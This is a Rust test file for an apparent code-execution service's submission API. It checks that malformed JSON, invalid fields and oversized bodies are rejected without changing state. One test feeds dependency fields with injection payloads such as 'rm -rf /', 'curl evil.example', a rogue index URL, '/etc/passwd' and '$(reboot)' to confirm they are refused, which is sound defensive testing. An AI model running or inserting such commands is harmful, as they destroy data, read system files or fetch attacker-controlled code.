//! Every bad input is answered by a clear 4xx and leaves nothing behind.

use annals_tests::{Answer, Database, Server};
use rstest::rstest;
use serde_json::{Value, json};

const SUBMIT: &str = "/api/v1/tasks/submit";

/// A server where nothing runs, with one task that waits.
async fn quiet(database: Database) -> (Server, String, String) {
    let server = Server::with(database).option("--max-running", "0").start().await;
    let run = server.submit("pass").await;
    (server, run.task, run.id)
}

/// Everything that the lists tell.
async fn lists(server: &Server) -> (Value, Value) {
    (server.get("/api/v1/tasks").await.ok(), server.get("/api/v1/runs").await.ok())
}

/// The problem names this place and says something of it.
#[track_caller]
fn names(answer: &Answer, loc: &[&str]) {
    let problem = answer.problem(422);
    let errors = problem["errors"].as_array().expect("errors");
    assert!(errors.iter().any(|error| error["loc"] == json!(loc)), "{loc:?}: {problem}");
}

#[rstest]
#[tokio::test]
async fn a_body_that_is_no_submission(
    #[values(Database::Sqlite, Database::Postgres)] database: Database,
) {
    let (server, task, run) = quiet(database).await;
    let before = lists(&server).await;
    for malformed in
        ["", " ", "{", "{\"pythonCode\": \"pass\"", "pass", "{'a': 1}", "\u{feff}{}", "{} {}"]
    {
        let detail = server.post_bytes(SUBMIT, malformed).await.problem(400)["detail"].clone();
        assert!(detail.as_str().is_some_and(|detail| detail.contains("JSON")), "{detail}");
    }
    let nothing = server.request(reqwest::Method::POST, SUBMIT);
    server.send(nothing).await.problem(400);
    let not_json =
        server.request(reqwest::Method::POST, SUBMIT).header("content-type", "text/plain");
    server.send(not_json.body("{\"pythonCode\": \"pass\"}")).await.problem(415);
    // A lone surrogate is no character, so that the text is no JSON in UTF-8.
    for surrogate in [r#"{"pythonCode": "\ud800"}"#, r#"{"pythonCode": "a\udc00b"}"#] {
        server.post_bytes(SUBMIT, surrogate).await.problem(400);
    }
    server.post_bytes(SUBMIT, b"{\"pythonCode\": \"\xff\"}".to_vec()).await.problem(400);
    for shape in ["[]", "null", "1", "\"pass\"", "[[\"pass\"]]"] {
        names(&server.post_bytes(SUBMIT, shape).await, &["body"]);
    }
    server.post_bytes(&format!("/api/v1/runs/{run}/rerun"), "{").await.problem(400);
    server.post_bytes(&format!("/api/v1/runs/{run}/rerun"), "[]").await.problem(422);
    assert_eq!(lists(&server).await, before);
    assert_eq!(server.get(&format!("/api/v1/tasks/{task}")).await.ok()["runCount"], 1);
}

#[rstest]
#[tokio::test]
async fn values_that_do_not_validate_are_named(
    #[values(Database::Sqlite, Database::Postgres)] database: Database,
) {
    let (server, _, run) = quiet(database).await;
    let before = lists(&server).await;
    let huge = "x".repeat(5_000_000);
    let cases: Vec<(Value, &[&str])> = vec![
        (json!({}), &["body", "pythonCode"]),
        (json!({"pythonCode": null}), &["body", "pythonCode"]),
        (json!({"pythonCode": 1}), &["body", "pythonCode"]),
        (json!({"pythonCode": ["pass"]}), &["body", "pythonCode"]),
        (json!({"pythonCode": ""}), &["body", "pythonCode"]),
        (json!({"pythonCode": " \n"}), &["body", "pythonCode"]),
        (json!({"pythonCode": "a\0b"}), &["body", "pythonCode"]),
        (json!({"pythonCode": huge}), &["body", "pythonCode"]),
        (json!({"pythonCode": "pass", "dependencies": 1}), &["body", "dependencies"]),
        (json!({"pythonCode": "pass", "dependencies": ["six"]}), &["body", "dependencies"]),
        (
            json!({"pythonCode": "pass", "dependencies": "x".repeat(10_001)}),
            &["body", "dependencies"],
        ),
        (json!({"pythonCode": "pass", "dependencies": "six\0"}), &["body", "dependencies"]),
        (
            json!({"pythonCode": "pass", "requirementsFile": "#".repeat(50_001)}),
            &["body", "requirementsFile"],
        ),
        (json!({"pythonCode": "pass", "name": "a\nb"}), &["body", "name"]),
        (json!({"pythonCode": "pass", "name": "a\0"}), &["body", "name"]),
        (json!({"pythonCode": "pass", "name": "n".repeat(201)}), &["body", "name"]),
        (json!({"pythonCode": "pass", "inputs": [1]}), &["body", "inputs"]),
        (json!({"pythonCode": "pass", "tags": "a"}), &["body", "tags"]),
        (json!({"pythonCode": "pass", "timeoutSeconds": -1}), &["body", "timeoutSeconds"]),
        (json!({"pythonCode": "pass", "timeoutSeconds": 0}), &["body", "timeoutSeconds"]),
        (json!({"pythonCode": "pass", "timeoutSeconds": 1e300}), &["body", "timeoutSeconds"]),
        (json!({"pythonCode": "pass", "timeoutSeconds": "1"}), &["body", "timeoutSeconds"]),
        (json!({"pythonCode": "pass", "env": {"A=B": "x"}}), &["body", "env", "A=B"]),
        (
            json!({"pythonCode": "pass", "env": {"ANNALS_TOKEN": "x"}}),
            &["body", "env", "ANNALS_TOKEN"],
        ),
        (json!({"pythonCode": "pass", "env": {"A": 1}}), &["body", "env", "A"]),
        (json!({"pythonCode": "pass", "executor": "moon"}), &["body", "executor"]),
        (json!({"pythonCode": "pass", "taskId": ""}), &["body", "taskId"]),
        (json!({"pythonCode": "pass", "taskId": 7}), &["body", "taskId"]),
    ];
    for (body, loc) in cases {
        names(&server.post(SUBMIT, &body).await, loc);
    }
    let rerun = server.post(&format!("/api/v1/runs/{run}/rerun"), &json!({"exact": "yes"})).await;
    names(&rerun, &["body", "exact"]);
    assert_eq!(lists(&server).await, before);
}

#[rstest]
#[tokio::test]
async fn dependencies_that_are_none_are_refused_by_line(
    #[values(Database::Sqlite, Database::Postgres)] database: Database,
) {
    let (server, task, _) = quiet(database).await;
    let before = lists(&server).await;
    for (dependencies, line) in [
        ("six; rm -rf /", 1),
        ("six\n--index-url https://evil.example/simple", 2),
        ("-r /etc/passwd", 1),
        ("six && curl evil.example", 1),
        ("$(reboot)", 1),
        ("six\n\n`id`", 3),
        ("six==", 1),
        ("../../etc", 1),
    ] {
        for body in [
            json!({"pythonCode": "pass", "dependencies": dependencies}),
            json!({"taskId": task, "dependencies": dependencies}),
        ] {
            let detail = server.post(SUBMIT, &body).await.problem(400)["detail"].clone();
            let named = detail.as_str().is_some_and(|text| text.contains(&format!("line {line}")));
            assert!(named, "{dependencies:?}: {detail}");
        }
    }
    for file in ["--index-url https://evil.example/simple", "-e .", "six; rm -rf /"] {
        server
            .post(SUBMIT, &json!({"pythonCode": "pass", "requirementsFile": file}))
            .await
            .problem(400);
    }
    assert_eq!(lists(&server).await, before);
}

#[rstest]
#[tokio::test]
async fn a_body_over_the_limit(#[values(Database::Sqlite, Database::Postgres)] database: Database) {
    let (server, _, _) = quiet(database).await;
    let before = lists(&server).await;
    let body = format!("{{\"pythonCode\": \"{}\"}}", "x".repeat(17 << 20));
    server.post_bytes(SUBMIT, body).await.problem(413);
    assert_eq!(lists(&server).await, before);
}
